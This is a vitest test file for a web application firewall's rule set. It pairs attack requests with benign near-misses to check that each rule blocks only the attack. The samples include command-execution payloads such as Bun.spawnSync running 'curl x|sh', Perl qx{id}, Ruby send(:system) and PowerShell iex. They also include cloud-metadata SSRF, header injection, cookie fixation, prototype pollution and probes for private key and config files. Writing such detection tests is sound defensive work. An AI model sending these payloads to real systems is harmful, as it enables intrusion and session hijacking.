/**
 * Bundled rules of rev 2026-12-18e: mechanisms blind attack set 8 (398 requests across issue 14's families
 * plus SSTI, XXE, NoSQL and traversal, written and committed before it was measured) showed passing the full
 * pipeline: a __Host- cookie prefix spelled in another case or with an encoded letter, Deno/Bun starting
 * processes, Perl eval(pack)/qx and Ruby send(:system), PowerShell [char] arithmetic, nested PHP stream
 * wrappers, the metadata address dashed in a rebinding host name, configuration files and actuator routes
 * at new names, tar's compress program after a space, a session cookie after a bare value, __proto__ in a
 * multipart JSON part, and at36's two gaps (a bare \n in a JSON header map, __%48ost-). Each fires on its
 * attack and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, get, header, json, multipart, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9001233, 'block', 'a __Host- prefix with its H percent-encoded', header('Cookie', '__%48ost-session=attacker-tossed; theme=dark'), header('Cookie', '__Host-session=k3j4h5g6f7d8; theme=dark')],
  [9001233, 'block', 'a __Host- prefix in lower case', header('Cookie', '__host-session=attacker-tossed'), header('Cookie', '__hostname=web-3; __Secure-sid=k3j4h5g6f7d8')],
  [9001637, 'block', 'Deno.run with a command array', json('{"code":"const p = Deno.run({ cmd: [\\"id\\"], stdout: \\"piped\\" }); await p.output();"}'), json('{"code":"const p = Deno.run({ cmd: [Deno.execPath(), \\"fmt\\", file] });"}')],
  [9001637, 'block', 'Bun.spawnSync starting a shell', json('{"code":"Bun.spawnSync([\\"sh\\",\\"-c\\",\\"curl x|sh\\"])"}'), json('{"code":"Bun.spawnSync([\\"git\\",\\"status\\"])"}')],
  [9001600, 'block', "Perl's eval of hex text unpacked", form('expr=eval%28pack%28%22H%2A%22%2C%2273797374656d28226964222920%22%29%29'), form('expr=my+%24b+%3D+pack%28%22H%2A%22%2C+%24hex%29%3B')],
  [9001603, 'block', "Perl's qx{} naming a command", q('e=qx%7Bid%7D'), q('e=qx+is+Perl%27s+backtick+operator')],
  [9001638, 'block', "Ruby's send(:system)", json('{"code":"Object.const_get(:Kernel).send(:system, \\"id\\")"}'), json('{"code":"user.send(:update, name: \\"x\\")"}')],
  [9001639, 'block', 'PowerShell joining [char] codes', q('host=127.0.0.1%3Biex+%28%5Bchar%5D119%2B%5Bchar%5D104%2B%5Bchar%5D111%2B%5Bchar%5D97%2B%5Bchar%5D109%2B%5Bchar%5D105+-join+%27%27%29'), q('q=%24nl+%3D+%5Bchar%5D13+%2B+%5Bchar%5D10')],
  [9000430, 'block', 'compress.zlib:// reading php://input', q('page=compress.zlib%3A%2F%2Fphp%3A%2F%2Finput'), q('page=compress.zlib%3A%2F%2F%2Fvar%2Fbackups%2Fa.gz')],
  [9001235, 'block', 'a bare \\n and a header line in a webhook header map', json('{"url":"https://h.example/a","headers":{"X-Trace":"v\\nX-Forwarded-Host: evil.example.net"}}'), json('{"headers":{"X-Note":"line one"},"body":"a\\nHost: example.org"}')],
  [9000528, 'block', 'the metadata address dashed in a rebinding host', json('{"url":"http://make-169-254-169-254-rr.1u.ms/latest/meta-data/"}'), json('{"url":"http://ec2-54-169-254-16.compute.amazonaws.com/health"}')],
  [9001434, 'block', 'an environment appsettings file', get('/appsettings.Development.json'), get('/docs/appsettings-development-json.html')],
  [9001434, 'block', 'a Spring application.properties at the root', get('/application.properties'), get('/config/orders-service/prod/application.yml')],
  [9001434, 'block', "the gateway actuator's routes", get('/actuator/gateway/routes'), get('/api/gateway/routes')],
  [9001434, 'block', 'nohup.out at the root', get('/nohup.out'), get('/blog/nohup-output-explained')],
  [9001430, 'block', "Passport's private key", get('/storage/oauth-private.key'), get('/docs/oauth-private-keys.html')],
  [9000313, 'block', "tar's compress program running a shell", json('{"n":"nightly.tar --use-compress-program=sh\\\\ -c\\\\ id"}'), json('{"args":"-cf out.tar --use-compress-program=pigz src/"}')],
  [9001650, 'block', 'a session cookie after a bare value', q('theme=dark%3B%20laravel_session%3Dattacker0000%3B%20Path%3D%2F'), q('theme=dark%3B%20compact')],
  [9001651, 'block', 'the same in a form value', form('theme=dark%3B+laravel_session%3Dattacker0000'), form('theme=dark%3B+high-contrast')],
  [9001310, 'block', '__proto__ in a multipart JSON part', multipart('data', '{"profile":{"__proto__":{"isAdmin":true}}}'), multipart('data', '{"profile":{"proto":{"isAdmin":false}}}')],
  [9001291, 'block', "osCommerce's osCsid padded to an id", q('osCsid=attacker0000000000000000000000ab'), q('osCsid=9r1b3jh0q7u6m2e8c5d4a0s1kl')],
];

describe('bundled rules from blind attack set 8 (rev 2026-12-18e)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
